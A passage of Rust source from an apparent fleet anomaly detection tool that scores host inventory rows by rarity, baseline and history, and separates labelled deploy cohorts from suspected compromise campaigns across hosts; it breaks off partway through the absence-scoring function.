//! From interned rows to a report: prevalence, cohorts, findings, scores.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use diffy_core::report::{
    BaselineProvenance, Campaign, CampaignRow, Cohort, CohortKind, CohortRow, Coverage, Finding, FindingKind,
    FleetFinding, HistoryWindow, HostFailure, HostReport, Method, NotTargetedHost, Presence, Prevalence, QueryUnseen,
    QueryVisibility, REPORT_SCHEMA, Report, RunSummary, SuppressedCount, VantageGroup, Visibility,
};
use diffy_core::run::NotTargeted;
use diffy_core::{HostStatus, Row};
use rayon::prelude::*;
use rustc_hash::{FxHashMap, FxHashSet};

use crate::dataset::{Builder, HostEntry, QueryTable, Seen};
use crate::explain::{differences, summarise};
use crate::indicators::{Relevance, assess, disowned};
use crate::profile::QueryKind;
use crate::suppress::Suppressions;

/// The hosts (analysed indices, sorted) that have, or lack, a row together.
type Signature = Vec<u32>;
/// Rows (table, row id, present or absent, sensitive) that share a signature.
type CohortRows = Vec<(usize, u32, Presence, bool)>;

/// Below this many hosts with usable evidence, the herd is too small for
/// cluster analysis to mean much.
pub const MIN_HERD: usize = 5;

/// How strongly a row seen on `k` of `n` hosts stands out, from 1 (on at most
/// max(1, 2 % of n) hosts) down to 0 (on half the hosts or more), falling
/// with the logarithm of `k` in between. 0 when `n < 3`.
pub fn rarity(k: usize, n: usize) -> f64 {
    if n < 3 || k == 0 {
        return 0.0;
    }
    let r0 = ((0.02 * n as f64).floor() as usize).max(1);
    let half = n as f64 / 2.0;
    if k <= r0 {
        return 1.0;
    }
    if k as f64 >= half {
        return 0.0;
    }
    1.0 - (k as f64 / r0 as f64).ln() / (half / r0 as f64).ln()
}

/// The smallest group that can be a cohort: 2 hosts, or 3 % of the herd.
pub fn cohort_min(n: usize) -> usize {
    ((0.03 * n as f64).ceil() as usize).max(2)
}

/// Everything the scoring needs besides the rows.
#[derive(Debug)]
pub(crate) struct Context {
    pub run: Option<RunSummary>,
    pub imported_from: Option<String>,
    pub methods: Vec<Method>,
    /// Targeted hosts (id, labels); `None`: every survey host was targeted.
    pub targeted: Option<Vec<(String, BTreeMap<String, String>)>>,
    pub not_targeted: Vec<NotTargeted>,
    pub baseline: Option<BaselineProvenance>,
    pub history: Option<Seen>,
    pub history_days: u32,
    pub warnings: Vec<String>,
}

/// Tunables of the scoring.
#[derive(Debug, Clone)]
pub(crate) struct Settings {
    pub threshold: f64,
    pub now: DateTime<Utc>,
}

struct TableStats {
    /// Analysed hosts with usable rows for this query.
    usable: Vec<u32>,
    /// Per row: analysed hosts that have it, sorted.
    hosts_of_row: Vec<Vec<u32>>,
    /// Per identity: hosts that have any row of it.
    identity_hosts: Vec<u32>,
    /// Per identity: the row most hosts have.
    dominant: Vec<u32>,
    /// Baseline rows (present on most baseline hosts), and per identity one of them.
    baseline: Option<(FxHashSet<u32>, FxHashMap<u32, u32>, usize)>,
    /// Hashes of keys seen in history, if history has this query.
    seen: Option<FxHashSet<u64>>,
}

fn complement(all: &[u32], some: &[u32]) -> Vec<u32> {
    let mut out = Vec::with_capacity(all.len().saturating_sub(some.len()));
    let mut j = 0;
    for &h in all {
        while j < some.len() && some[j] < h {
            j += 1;
        }
        if j < some.len() && some[j] == h {
            continue;
        }
        out.push(h);
    }
    out
}

fn jaccard(a: &[u32], b: &[u32]) -> f64 {
    let (mut i, mut j, mut inter) = (0, 0, 0usize);
    while i < a.len() && j < b.len() {
        match a[i].cmp(&b[j]) {
            std::cmp::Ordering::Less => i += 1,
            std::cmp::Ordering::Greater => j += 1,
            std::cmp::Ordering::Equal => {
                inter += 1;
                i += 1;
                j += 1;
            }
        }
    }
    let union = a.len() + b.len() - inter;
    if union == 0 { 0.0 } else { inter as f64 / union as f64 }
}

fn visible(table: &QueryTable, row: &Row) -> Row {
    row.iter().filter(|(c, _)| table.profile.compared(c)).map(|(c, v)| (c.clone(), v.clone())).collect()
}

/// The row to show for host `survey_index` (exact when we can be sure).
fn display_row(table: &QueryTable, r: u32, survey_index: u32, own_hash: u64) -> (Row, bool) {
    let info = &table.rows[r as usize];
    if info.first_host == survey_index {
        (info.original.clone(), true)
    } else if info.original_hash == own_hash {
        (visible(table, &info.original), true)
    } else {
        (info.normalised(), false)
    }
}

/// What a strong row (see [`Relevance`]) contributes at least, plus its
/// rarity, on any share of the fleet below most of it: alone it reaches the
/// default threshold, and rarer rows still rank higher.
pub const STRONG_FLOOR: f64 = 5.0;

/// How a row is a finding, the same on every host that has it.
struct Verdict {
    kind: FindingKind,
    expected: Option<Row>,
    assessment: crate::indicators::Assessment,
    methods: Vec<Method>,
    raw: f64,
    explanation: String,
    /// Strong, and counted whatever its prevalence.
    campaign: bool,
}

/// Host groups by label, to tell a deploy from a campaign.
struct LabelGroups {
    /// (`key=value`, analysed hosts with it, sorted), for groups of 2 hosts up
    /// to all but one.
    groups: Vec<(String, Vec<u32>)>,
    /// (launch time, analysed host), sorted.
    launched: Vec<(DateTime<Utc>, u32)>,
}

/// Labels that name a host, or say where it runs, rather than how it was
/// built: an attacker's spread within one zone or account is not a deploy.
const NOT_A_BUILD: &[&str] = &[
    "name",
    "launch_time",
    "private_ip",
    "public_ip",
    "private_dns",
    "hostname",
    "ip",
    "az",
    "availability_zone",
    "region",
    "account",
    "owner",
    "subnet",
    "subnet_id",
    "vpc",
    "vpc_id",
];

impl LabelGroups {
    fn new(analysed: &[usize], survey: &[HostEntry]) -> Self {
        let mut by: BTreeMap<(&str, &str), Vec<u32>> = BTreeMap::new();
        let mut launched = Vec::new();
        for (a, &si) in analysed.iter().enumerate() {
            for (k, v) in &survey[si].labels {
                if k == "launch_time" {
                    if let Ok(t) = DateTime::parse_from_rfc3339(v) {
                        launched.push((t.with_timezone(&Utc), a as u32));
                    }
                }
                if !NOT_A_BUILD.contains(&k.as_str()) {
                    by.entry((k.as_str(), v.as_str())).or_default().push(a as u32);
                }
            }
        }
        let n = analysed.len();
        let groups = by
            .into_iter()
            .filter(|(_, h)| h.len() >= 2 && h.len() < n)
            .map(|((k, v), h)| (format!("{k}={v}"), h))
            .collect();
        launched.sort();
        Self { groups, launched }
    }

    /// The label (or launch window) whose hosts are, within a fifth, these
    /// hosts and no others.
    fn explain(&self, hosts: &[u32]) -> Option<String> {
        let (lo, hi) = (hosts.len() as f64 * 0.8, hosts.len() as f64 * 1.25);
        let best = self
            .groups
            .iter()
            .filter(|(_, h)| (lo..=hi).contains(&(h.len() as f64)))
            .map(|(l, h)| (jaccard(hosts, h), l))
            .filter(|(j, _)| *j >= 0.8)
            .max_by(|a, b| a.0.total_cmp(&b.0).then_with(|| b.1.cmp(a.1)));
        if let Some((_, l)) = best {
            return Some(l.clone());
        }
        // A launch window: the cohort's hosts were launched together, and
        // (nearly) no other host in that time.
        let times: Vec<DateTime<Utc>> =
            self.launched.iter().filter(|(_, a)| hosts.binary_search(a).is_ok()).map(|(t, _)| *t).collect();
        if times.len() * 5 < hosts.len() * 4 {
            return None;
        }
        let (first, last) = (*times.first()?, *times.last()?);
        let mut window: Vec<u32> =
            self.launched.iter().filter(|(t, _)| *t >= first && *t <= last).map(|(_, a)| *a).collect();
        window.sort_unstable();
        (jaccard(hosts, &window) >= 0.8).then(|| {
            format!(
                "launched {} to {}",
                first.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                last.to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
            )
        })
    }
}

/// Table and row id.
type RowRef = (usize, u32);

/// Groups the strong rows on two hosts or more by the hosts that have them
/// (sets that overlap by 80 % merge): the report's campaigns, which campaign
/// each row is in, and each analysed host's campaigns.
fn campaigns(
    tables: &[QueryTable],
    stats: &[TableStats],
    verdicts: &[Vec<Option<Verdict>>],
    analysed: &[usize],
    survey: &[HostEntry],
    n: usize,
) -> (Vec<Campaign>, FxHashMap<RowRef, String>, Vec<Vec<String>>) {
    let mut by_sig: BTreeMap<&[u32], Vec<RowRef>> = BTreeMap::new();
    for (t, rows) in verdicts.iter().enumerate() {
        for (r, v) in rows.iter().enumerate() {
            let hosts = &stats[t].hosts_of_row[r];
            if v.as_ref().is_some_and(|v| v.campaign) && hosts.len() >= 2 {
                by_sig.entry(hosts.as_slice()).or_default().push((t, r as u32));
            }
        }
    }
    let mut sigs: Vec<(&[u32], Vec<RowRef>)> = by_sig.into_iter().collect();
    sigs.sort_by(|a, b| b.0.len().cmp(&a.0.len()).then_with(|| a.0.cmp(b.0)));
    let mut used = vec![false; sigs.len()];
    let mut groups: Vec<(Vec<u32>, Vec<RowRef>)> = Vec::new();
    for i in 0..sigs.len() {
        if used[i] {
            continue;
        }
        used[i] = true;
        let mut hosts = sigs[i].0.to_vec();
        let mut rows = sigs[i].1.clone();
        for j in i + 1..sigs.len() {
            // Sorted by size: past a fifth smaller, no set overlaps enough.
            if (sigs[j].0.len() as f64) < 0.8 * sigs[i].0.len() as f64 {
                break;
            }
            if !used[j] && jaccard(sigs[i].0, sigs[j].0) >= 0.8 {
                used[j] = true;
                rows.extend(sigs[j].1.iter().copied());
                hosts.extend_from_slice(sigs[j].0);
            }
        }
        hosts.sort_unstable();
        hosts.dedup();
        groups.push((hosts, rows));
    }
    // Fleet-wide (a row on most hosts) first, worked out once per group.
    let mut groups: Vec<(bool, Vec<u32>, Vec<RowRef>)> = groups
        .into_iter()
        .map(|(hosts, rows)| (rows.iter().any(|&(t, r)| 2 * stats[t].hosts_of_row[r as usize].len() > n), hosts, rows))
        .collect();
    groups.sort_by(|a, b| b.0.cmp(&a.0).then(b.1.len().cmp(&a.1.len())).then_with(|| a.1.cmp(&b.1)));
    let mut out = Vec::new();
    let mut row_campaign = FxHashMap::default();
    let mut host_campaigns = vec![Vec::new(); n];
    let id_of = |a: u32| survey[analysed[a as usize]].id.clone();
    for (i, (wide, hosts, mut rows)) in groups.into_iter().enumerate() {
        let id = format!("campaign-{}", i + 1);
        let raw = |&(t, r): &RowRef| verdicts[t][r as usize].as_ref().map_or(0.0, |v| v.raw);
        rows.sort_by(|a, b| raw(b).total_cmp(&raw(a)).then(a.cmp(b)));
        let mut campaign_rows = Vec::new();
        for &(t, r) in &rows {
            row_campaign.insert((t, r), id.clone());
            let (table, v) = (&tables[t], verdicts[t][r as usize].as_ref().expect("campaign rows have verdicts"));
            let with = &stats[t].hosts_of_row[r as usize];
            campaign_rows.push(CampaignRow {
                query: table.name.clone(),
                kind: v.kind,
                row: visible(table, &table.rows[r as usize].original),
                indicators: v.assessment.indicators.clone(),
                prevalence: Prevalence { hosts: with.len(), of: stats[t].usable.len() },
                hosts: with.iter().map(|&a| id_of(a)).collect(),
            });
        }
        for &a in &hosts {
            host_campaigns[a as usize].push(id.clone());
        }
        let sample: Vec<String> = campaign_rows
            .iter()
            .take(3)
            .map(|r| {
                let why = r.indicators.first().map(|i| format!(" ({i})")).unwrap_or_default();
                format!("{} {}{why}", r.query, summarise(QueryKind::of(&r.query), &r.row))
            })
            .collect();
        let more = if campaign_rows.len() > 3 { "; …" } else { "" };
        let what =
            if campaign_rows.len() == 1 { "the same security-relevant row" } else { "the same security-relevant rows" };
        let explanation = if wide {
            format!(
                "FLEET-WIDE: {} of {n} hosts, most of the fleet, have {what} that the baseline or the target's history lacks ({}{more}): a compromise that reached most hosts is the worst case, not drift; every one of them is scored",
                hosts.len(),
                sample.join("; ")
            )
        } else {
            format!(
                "{} of {n} hosts share {what} and no label explains it ({}{more}): the same compromise on several hosts, or a change nobody labelled; each is scored as a finding on every one of them, at any share of the fleet below most of it",
                hosts.len(),
                sample.join("; ")
            )
        };
        out.push(Campaign {
            id,
            fleet_wide: wide,
            prevalence: Prevalence { hosts: hosts.len(), of: n },
            hosts: hosts.iter().map(|&a| id_of(a)).collect(),
            rows: campaign_rows,
            explanation,
        });
    }
    (out, row_campaign, host_campaigns)
}

struct Candidate {
    table: usize,
    finding: Finding,
    raw_score: f64,
}

fn round(x: f64) -> f64 {
    (x * 100.0).round() / 100.0
}

/// What every pass reads: the tables, the survey hosts with usable evidence
/// and each table's prevalence among them. Hosts are referred to by their
/// *analysed index*: their position in `analysed`, in id order.
struct Herd<'a> {
    tables: &'a [QueryTable],
    survey: &'a [HostEntry],
    /// Every survey host, by id.
    order: Vec<usize>,
    /// Survey indices of the hosts with usable evidence, by id.
    analysed: Vec<usize>,
    /// `analysed.len()`.
    n: usize,
    stats: Vec<TableStats>,
    cluster_on: bool,
    /// The history's length, for "first seen" explanations.
    history_days: u32,
}

impl<'a> Herd<'a> {
    /// The prevalence pass: per table, which analysed hosts have each row and
    /// each identity, the usual row of each identity, the baseline's rows (on
    /// most baseline hosts) and the keys history has seen.
    fn new(
        tables: &'a [QueryTable],
        survey: &'a [HostEntry],
        baseline_hosts: &[HostEntry],
        methods: &[Method],
        history: Option<&Seen>,
        history_days: u32,
    ) -> Self {
        let cluster_on = methods.contains(&Method::Cluster);
        let baseline_on = methods.contains(&Method::Baseline) && !baseline_hosts.is_empty();
        let novelty_on = methods.contains(&Method::Novelty) && history.is_some();
        let mut order: Vec<usize> = (0..survey.len()).collect();
        order.sort_by(|a, b| survey[*a].id.cmp(&survey[*b].id));
        let analysed: Vec<usize> = order.iter().copied().filter(|&i| survey[i].usable()).collect();
        let mut stats: Vec<TableStats> = tables
            .iter()
            .map(|t| TableStats {
                usable: Vec::new(),
                hosts_of_row: vec![Vec::new(); t.rows.len()],
                identity_hosts: vec![0; t.identities],
                dominant: vec![u32::MAX; t.identities],
                baseline: None,
                seen: None,
            })
            .collect();
        let mut ident_scratch = Vec::new();
        for (a, &si) in analysed.iter().enumerate() {
            for (t, q) in &survey[si].queries {
                if let crate::dataset::HostQuery::Rows(rows) = q {
                    let s = &mut stats[*t];
                    s.usable.push(a as u32);
                    ident_scratch.clear();
                    for &(r, _) in rows {
                        s.hosts_of_row[r as usize].push(a as u32);
                        ident_scratch.push(tables[*t].rows[r as usize].identity);
                    }
                    ident_scratch.sort_unstable();
                    ident_scratch.dedup();
                    for &i in &ident_scratch {
                        s.identity_hosts[i as usize] += 1;
                    }
                }
            }
        }
        for (t, table) in tables.iter().enumerate() {
            let s = &mut stats[t];
            // The usual value of an identity is the one most hosts have; a value
            // its package disowns (a binary that fails its package's checksum)
            // is never the usual one while another exists, however many hosts
            // have it: a campaign on half the fleet does not become the norm.
            for (r, info) in table.rows.iter().enumerate() {
                let d = &mut s.dominant[info.identity as usize];
                let rank = |x: usize| (!disowned(table.profile.kind, &table.rows[x].original), s.hosts_of_row[x].len());
                if *d == u32::MAX || rank(r) > rank(*d as usize) {
                    *d = r as u32;
                }
            }
            if baseline_on {
                let mut counts: FxHashMap<u32, usize> = FxHashMap::default();
                let mut nb = 0;
                for h in baseline_hosts {
                    if let Some(rows) = h.rows(t) {
                        nb += 1;
                        for &(r, _) in rows {
                            *counts.entry(r).or_default() += 1;
                        }
                    }
                }
                if nb > 0 {
                    let min = nb / 2 + 1;
                    let set: FxHashSet<u32> = counts.into_iter().filter(|(_, c)| *c >= min).map(|(r, _)| r).collect();
                    let idents = set.iter().map(|&r| (table.rows[r as usize].identity, r)).collect();
                    s.baseline = Some((set, idents, nb));
                }
            }
            if novelty_on {
                s.seen = history.and_then(|h| h.by_query.get(&table.name)).map(|(set, _)| set.clone());
            }
        }
        let n = analysed.len();
        Herd { tables, survey, order, analysed, n, stats, cluster_on, history_days }
    }

    /// The id of analysed host `a`.
    fn id_of(&self, a: u32) -> String {
        self.survey[self.analysed[a as usize]].id.clone()
    }

    /// The kind a present row has for the cluster method.
    fn cluster_kind(&self, t: usize, r: usize) -> FindingKind {
        let (table, s) = (&self.tables[t], &self.stats[t]);
        let info = &table.rows[r];
        let d = s.dominant[info.identity as usize];
        if table.profile.has_partial_identity()
            && d as usize != r
            && 2 * s.identity_hosts[info.identity as usize] as usize >= s.usable.len()
            && (s.hosts_of_row[d as usize].len() > s.hosts_of_row[r].len()
                || disowned(table.profile.kind, &info.original))
        {
            FindingKind::Changed
        } else {
            FindingKind::Rare
        }
    }

    /// The kind of finding a present row is, the row it replaced, and whether
    /// that came from the baseline: the same in the cohort pass and in the
    /// verdicts.
    fn row_kind(&self, t: usize, r: usize) -> (FindingKind, Option<u32>, bool) {
        let (table, s) = (&self.tables[t], &self.stats[t]);
        let info = &table.rows[r];
        let not_in_baseline = s.baseline.as_ref().is_some_and(|(b, _, _)| !b.contains(&(r as u32)));
        let baseline_expected = match (&s.baseline, not_in_baseline && table.profile.has_partial_identity()) {
            (Some((_, idents, _)), true) => idents.get(&info.identity).copied().filter(|&b| b != r as u32),
            _ => None,
        };
        if let Some(b) = baseline_expected {
            (FindingKind::Changed, Some(b), true)
        } else if self.cluster_on && self.cluster_kind(t, r) == FindingKind::Changed {
            (FindingKind::Changed, Some(s.dominant[info.identity as usize]), false)
        } else if not_in_baseline {
            (FindingKind::Added, None, false)
        } else if self.cluster_on {
            (FindingKind::Rare, None, false)
        } else {
            (FindingKind::New, None, false)
        }
    }
}

/// Cohorts found: (hosts, rows, the label that explains them), and the rows
/// they explain (never scored).
struct FoundCohorts {
    found: Vec<(Signature, CohortRows, Option<String>)>,
    explained: FxHashSet<RowRef>,
}

/// The cohort pass: groups of hosts set apart by the same rows. A pattern of
/// attack never makes or joins one; a sensitive row (a changed system binary,
/// a new key) stays only when a label explains the cohort: a deploy.
fn find_cohorts(herd: &Herd<'_>, labels: &LabelGroups) -> FoundCohorts {
    let n = herd.n;
    let mut found: Vec<(Signature, CohortRows, Option<String>)> = Vec::new();
    let mut explained: FxHashSet<RowRef> = FxHashSet::default();
    if !herd.cluster_on || n < 4 {
        return FoundCohorts { found, explained };
    }
    let min = cohort_min(n);
    let mut groups: FxHashMap<Signature, CohortRows> = FxHashMap::default();
    for (t, table) in herd.tables.iter().enumerate() {
        let s = &herd.stats[t];
        let nt = s.usable.len();
        for (r, hosts) in s.hosts_of_row.iter().enumerate() {
            let k = hosts.len();
            let (sig, presence) = if k >= min && 2 * k <= nt {
                (hosts.clone(), Presence::Present)
            } else if 2 * k > nt && nt - k >= min && 2 * (nt - k) <= nt {
                (complement(&s.usable, hosts), Presence::Absent)
            } else {
                continue;
            };
            let row = &table.rows[r].original;
            let mut a = assess(table.profile.kind, row, herd.row_kind(t, r).0);
            if presence == Presence::Absent {
                // The hosts that lack a strong row are not a cohort
                // explaining it: they are the clean ones.
                let missing = assess(table.profile.kind, row, FindingKind::Missing);
                a = crate::indicators::Assessment {
                    severity: missing.severity.max(a.severity),
                    relevance: missing.relevance.max(a.relevance),
                    indicators: missing.indicators,
                };
            }
            if a.relevance == Relevance::Attack || (a.relevance == Relevance::None && a.severity > 2.0) {
                continue; // a deploy does not explain a suspicious row
            }
            groups.entry(sig).or_default().push((t, r as u32, presence, a.relevance == Relevance::Sensitive));
        }
    }
    let mut groups: Vec<(Signature, CohortRows)> = groups.into_iter().collect();
    groups.sort_by(|a, b| b.1.len().cmp(&a.1.len()).then(b.0.len().cmp(&a.0.len())).then(a.0.cmp(&b.0)));
    let mut absorbed = vec![false; groups.len()];
    // Two hosts that only gained the same rows are suspects, not a
    // deploy: a cohort that small must have replaced something.
    let enough = |hosts: usize, rows: &CohortRows| {
        let replaced = rows.iter().any(|g| g.2 == Presence::Absent) && rows.iter().any(|g| g.2 == Presence::Present);
        rows.len() >= 2 && (hosts >= 3 || replaced)
    };
    for i in 0..groups.len() {
        // A label makes any shared difference a deploy, even one row on
        // two hosts; without one, a cohort needs the shape of a deploy.
        if absorbed[i] {
            continue;
        }
        let shaped = enough(groups[i].0.len(), &groups[i].1);
        let because = if shaped || groups[i].1.iter().any(|g| g.3) { labels.explain(&groups[i].0) } else { None };
        if because.is_none() && !shaped {
            continue;
        }
        absorbed[i] = true;
        let mut rows = groups[i].1.clone();
        for j in 0..groups.len() {
            if absorbed[j] {
                continue;
            }
            let (a, b) = (groups[i].0.len() as f64, groups[j].0.len() as f64);
            if a.min(b) / a.max(b) < 0.8 {
                continue;
            }
            if jaccard(&groups[i].0, &groups[j].0) >= 0.8 {
                absorbed[j] = true;
                rows.extend(groups[j].1.iter().copied());
            }
        }
        if because.is_none() {
            // Nothing says these hosts were built differently: their
            // sensitive rows are scored like anyone's.
            rows.retain(|g| !g.3);
            if !enough(groups[i].0.len(), &rows) {
                continue;
            }
        }
        for &(t, r, _, _) in &rows {
            explained.insert((t, r));
        }
        found.push((groups[i].0.clone(), rows, because));
    }
    found.sort_by(|a, b| b.0.len().cmp(&a.0.len()).then(b.1.len().cmp(&a.1.len())).then(a.0.cmp(&b.0)));
    FoundCohorts { found, explained }
}

/// The report's cohorts, and each analysed host's cohort ids.
fn cohort_reports(herd: &Herd<'_>, found: &FoundCohorts) -> (Vec<Cohort>, Vec<Vec<String>>) {
    let n = herd.n;
    let mut host_cohorts: Vec<Vec<String>> = vec![Vec::new(); n];
    let mut cohorts = Vec::new();
    for (ci, (hosts, rows, because)) in found.found.iter().enumerate() {
        let id = format!("cohort-{}", ci + 1);
        for &a in hosts {
            host_cohorts[a as usize].push(id.clone());
        }
        let mut cohort_rows: Vec<CohortRow> = rows
            .iter()
            .map(|&(t, r, presence, _)| {
                let table = &herd.tables[t];
                CohortRow {
                    query: table.name.clone(),
                    presence,
                    row: visible(table, &table.rows[r as usize].original),
                    prevalence: Prevalence {
                        hosts: herd.stats[t].hosts_of_row[r as usize].len(),
                        of: herd.stats[t].usable.len(),
                    },
                }
            })
            .collect();
        cohort_rows.sort_by(|a, b| (a.presence as u8, &a.query, &a.row).cmp(&(b.presence as u8, &b.query, &b.row)));
        let ids: Vec<String> = hosts.iter().map(|&a| herd.id_of(a)).collect();
        let labels = shared_labels(hosts, &herd.analysed, herd.survey);
        let sample: Vec<String> = cohort_rows
            .iter()
            .take(3)
            .map(|r| {
                let kind = QueryKind::of(&r.query);
                let verb = if r.presence == Presence::Present { "has" } else { "lacks" };
                format!("{verb} {} {}", r.query, summarise(kind, &r.row))
            })
            .collect();
        let (kind, what) = match because {
            Some(label) => (
                CohortKind::Deploy,
                format!("a deploy: {label} sets these hosts apart, so these differences are not scored"),
            ),
            None => (
                CohortKind::Unexplained,
                "no label explains it (no launch template version, image, instance type or launch window of these hosts alone): \
                 none of these differences is security-relevant, so they are not scored; check it is a rollout you know of"
                    .to_string(),
            ),
        };
        cohorts.push(Cohort {
            explanation: format!(
                "{} of {n} hosts differ from the rest in the same {} ways ({}{}): {what}.",
                hosts.len(),
                cohort_rows.len(),
                sample.join("; "),
                if cohort_rows.len() > 3 { "; …" } else { "" },
            ),
            id,
            kind,
            explained_by: because.clone(),
            hosts: ids,
            prevalence: Prevalence { hosts: hosts.len(), of: n },
            labels,
            rows: cohort_rows,
        });
    }
    (cohorts, host_cohorts)
}

/// Per table, the analysed hosts that could not read some of it, and where:
/// a row lying there is unknown on them, not absent (a root host's key under
/// /root/.ssh is not rare among hosts that could not open /root).
fn hidden_scopes(herd: &Herd<'_>) -> Vec<Vec<(u32, Vec<String>)>> {
    herd.tables
        .iter()
        .map(|table| {
            herd.analysed
                .iter()
                .enumerate()
                .filter_map(|(a, &si)| {
                    let u = herd.survey[si].unseen.iter().find(|(q, _)| *q == table.name)?;
                    let paths: Vec<String> = u.1.first.iter().filter(|p| p.starts_with('/')).cloned().collect();
                    (!paths.is_empty()).then_some((a as u32, paths))
                })
                .collect()
        })
        .collect()
}

/// The verdict pass: per row, once, whether it is a finding on the hosts that
/// have it, how strong, and why. Only how the row is shown depends on the
/// host.
fn verdicts(
    herd: &Herd<'_>,
    explained: &FxHashSet<RowRef>,
    hidden: &[Vec<(u32, Vec<String>)>],
) -> Vec<Vec<Option<Verdict>>> {
    (0..herd.tables.len())
        .into_par_iter()
        .map(|t| {
            (0..herd.tables[t].rows.len()).into_par_iter().map(|r| verdict(herd, explained, hidden, t, r)).collect()
        })
        .collect()
}

fn verdict(
    herd: &Herd<'_>,
    explained: &FxHashSet<RowRef>,
    hidden_scope: &[Vec<(u32, Vec<String>)>],
    t: usize,
    r: usize,
) -> Option<Verdict> {
    let (table, s, n) = (&herd.tables[t], &herd.stats[t], herd.n);
    let cluster_on = herd.cluster_on;
    let nt = s.usable.len();
    let k = s.hosts_of_row[r].len();
    if k == 0 || explained.contains(&(t, r as u32)) {
        return None;
    }
    let info = &table.rows[r];
    let hidden = hidden_on(&hidden_scope[t], &s.hosts_of_row[r], &info.original);
    let s_cluster = if cluster_on { rarity(k, nt - hidden) } else { 0.0 };
    let not_in_baseline = s.baseline.as_ref().map(|(b, _, _)| !b.contains(&(r as u32)));
    let s_base = match not_in_baseline {
        Some(true) if nt < MIN_HERD => 1.0,
        Some(true) if 2 * k > nt => 0.0, // drift, reported once
        Some(true) => rarity(k, nt),
        _ => 0.0,
    };
    let is_new = s.seen.as_ref().map(|seen| !seen.contains(&info.key_hash));
    let s_novel = match is_new {
        Some(true) if nt < MIN_HERD => 1.0,
        Some(true) if 2 * k > nt => 0.0, // drift, reported once
        Some(true) => 0.5 * (1.0 - k as f64 / nt as f64),
        _ => 0.0,
    };
    // Same identity, other attributes: "changed".
    let (kind, expected, from_baseline) = herd.row_kind(t, r);
    let assessment = assess(table.profile.kind, &info.original, kind);
    // Security relevance is not diluted by prevalence: a strong row counts
    // on any share of the fleet below most of it, and whatever its share
    // when the baseline lacks it or the target never showed it.
    // "Most of the fleet" counts every analysed host (a query that failed
    // on some does not make a campaign on half of them the norm) but those
    // that could not read where the row lies.
    // A herd is needed to say "below most".
    // Nor does a row every readable host has become one when the query
    // failed on many: some of the hosts that could read it must lack it.
    let campaign_cluster =
        cluster_on && n >= MIN_HERD && 2 * k <= n.saturating_sub(hidden) && 10 * k < 9 * nt.saturating_sub(hidden);
    let campaign = assessment.strong() && (campaign_cluster || not_in_baseline == Some(true) || is_new == Some(true));
    let strength = s_cluster.max(s_base).max(s_novel);
    if strength <= 0.0 && !campaign {
        return None;
    }
    let mut methods = Vec::new();
    if s_cluster > 0.0 || (campaign && campaign_cluster) {
        methods.push(Method::Cluster);
    }
    if s_base > 0.0 || (campaign && not_in_baseline == Some(true)) {
        methods.push(Method::Baseline);
    }
    if s_novel > 0.0 || (campaign && is_new == Some(true)) {
        methods.push(Method::Novelty);
    }
    let mut raw = table.profile.weight * assessment.severity * strength;
    if campaign {
        raw = raw.max(STRONG_FLOOR + rarity(k, nt));
    }
    if raw < 0.25 && assessment.indicators.is_empty() {
        return None;
    }
    let expected_row = expected.map(|e| visible(table, &table.rows[e as usize].original));
    let prevalence = Prevalence { hosts: k, of: nt };
    let explanation = match (kind, &expected_row) {
        (FindingKind::Changed, Some(exp)) => {
            let others = expected.map(|e| s.hosts_of_row[e as usize].len()).unwrap_or(0);
            let usual = if from_baseline {
                "the baseline's value".to_string()
            } else {
                format!("the value on {others} of {nt} hosts")
            };
            let identity: Vec<&str> =
                table.profile.identity.iter().filter_map(|c| info.original.get(c).map(String::as_str)).collect();
            format!(
                "{} {} changed: {} (this value on {prevalence}; before the arrow, {usual})",
                table.name,
                identity.join(" "),
                differences(exp, &visible(table, &info.original)),
            )
        }
        _ => {
            let mut why = Vec::new();
            if methods.contains(&Method::Cluster) || !methods.contains(&Method::Baseline) || campaign {
                why.push(format!("seen on {prevalence}"));
            }
            if hidden > 0 {
                why.push(format!("{hidden} of them could not read where it lies"));
            }
            if methods.contains(&Method::Baseline) {
                why.push("not in the baseline".to_string());
            }
            if methods.contains(&Method::Novelty) {
                why.push(format!("first seen: not in the last {} days of this target", herd.history_days));
            }
            format!("{} {}: {}", table.name, summarise(table.profile.kind, &info.original), why.join("; "))
        }
    };
    Some(Verdict { kind, expected: expected_row, assessment, methods, raw, explanation, campaign })
}

/// A cohort whose hosts are also in a campaign says so: what it left
/// unscored is not all there is to them.
fn note_campaigns_in_cohorts(cohorts: &mut [Cohort], found: &FoundCohorts, host_campaigns: &[Vec<String>]) {
    for (c, (hosts, _, _)) in cohorts.iter_mut().zip(&found.found) {
        let mut ids: Vec<&String> = hosts.iter().flat_map(|&a| &host_campaigns[a as usize]).collect();
        ids.sort();
        ids.dedup();
        if !ids.is_empty() {
            let ids: Vec<&str> = ids.iter().map(|s| s.as_str()).collect();
            c.explanation.push_str(&format!(" Some of its hosts are also in {}, scored there.", ids.join(", ")));
        }
    }
}

/// A row missing on a host: (table, row, cluster strength, baseline strength).
type Absence = (usize, u32, f64, f64);

/// The absence pass: rows nearly everyone (or the baseline) has, missing on
/// a host, per analysed host; and the baseline's rows absent from most of the
/// fleet, as drift (reported once, not on every host).
fn absences(herd: &Herd<'_>, explained: &FxHashSet<RowRef>) -> (Vec<Vec<Absence>>, Vec<FleetFinding>) {
    let mut absences: Vec<Vec<Absence>> = vec![Vec::new(); herd.n];
    let mut drift = Vec::new();
    for (t, table) in herd.tables.iter().enumerate() {
        let s = &herd.stats[t];
        let nt = s.usable.len();
        if nt == 0 {
            continue;
        }
        for (r, hosts) in s.hosts_of_row.iter().enumerate() {
            let k = hosts.len();
            let in_baseline = s.baseline.as_ref().is_some_and(|(b, _, _)| b.contains(&(r as u32)));
            let absent = nt - k;
            if absent == 0 || explained.contains(&(t, r as u32)) {
                continue;
            }
            if in_baseline
                && 2 * absent > nt
                && assess(table.profile.kind, &table.rows[r].original, FindingKind::Removed).severity < 0.3
            {
                continue;
            }
            let cluster = if herd.cluster_on && k > 0 { 0.5 * rarity(absent, nt) } else { 0.0 };
            let base = if in_baseline {
                if nt < MIN_HERD {
                    0.5
                } else if 2 * absent > nt {
                    drift.push(FleetFinding {
                        query: table.name.clone(),
                        kind: FindingKind::Removed,
                        method: Method::Baseline,
                        row: visible(table, &table.rows[r].original),
                        prevalence: Prevalence { hosts: k, of: nt },
                        explanation: format!(
                            "in the baseline, absent from {absent} of {nt} hosts: {}",
                            summarise(table.profile.kind, &table.rows[r].original)
                        ),
                    });
                    0.0
                } else {
                    0.5 * rarity(absent, nt)
